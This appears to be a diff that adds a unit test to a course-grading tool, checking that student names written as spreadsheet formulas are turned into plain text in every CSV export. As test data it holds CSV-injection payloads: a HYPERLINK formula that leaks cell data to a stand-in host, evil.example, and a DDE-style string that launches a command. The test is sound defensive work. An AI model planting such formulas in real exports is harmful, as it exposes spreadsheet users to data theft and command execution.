@@ -329,3 +329,25 @@ def test_a_failed_nbgrader_export_is_said_not_passed_off_as_todays(tmp_path):
     md = (out / "report.md").read_text()
     line = next(line for line in md.splitlines() if "nbgrader's export failed" in line)
     assert "note" in line and "not graded" not in line
+
+
+def test_a_name_that_is_a_formula_is_text_in_every_csv(tmp_path):
+    """Students set their own names in the LMS: one written as a formula (a link out, a command) must reach
+    grades.csv, the LMS export and nbgrader's export as text a spreadsheet shows, never runs; numbers stay."""
+    from fuselab.grading.outputs.terminal import defuse_csv_file, spreadsheet_cell
+    evil = '=HYPERLINK("http://evil.example/?x="&A2,"Click me")'
+    people = [dict(CANVAS[0], name=evil), dict(CANVAS[1], name="@SUM(1+1)*cmd|' /C calc'!A0"), CANVAS[2]]
+    out = _course(tmp_path, people=people)
+    rows = _outputs(out)
+    assert rows["ann"]["name"] == "'" + evil and rows["bo"]["name"].startswith("'@SUM")
+    export.write(out, scale=True)
+    for name in ("canvas-grades.csv", "totals.csv"):
+        cells = [c for row in csv.reader((out / "export" / name).open(encoding="utf-8")) for c in row]
+        assert not any(c.startswith(("=", "@")) for c in cells) and "'" + evil in cells, (name, cells)
+    nbgrader_csv = tmp_path / "nbgrader-grades.csv"
+    nbgrader_csv.write_text(f'assignment,student_id,last_name,score\nlab0,ann,"{evil.replace(chr(34), 2 * chr(34))}",'
+                            "-1.5\n")
+    defuse_csv_file(nbgrader_csv)
+    [row] = list(csv.DictReader(nbgrader_csv.open()))
+    assert row["last_name"] == "'" + evil and row["score"] == "-1.5"
+    assert spreadsheet_cell("-2") == "-2" and spreadsheet_cell(3) == 3 and spreadsheet_cell("+x") == "'+x"
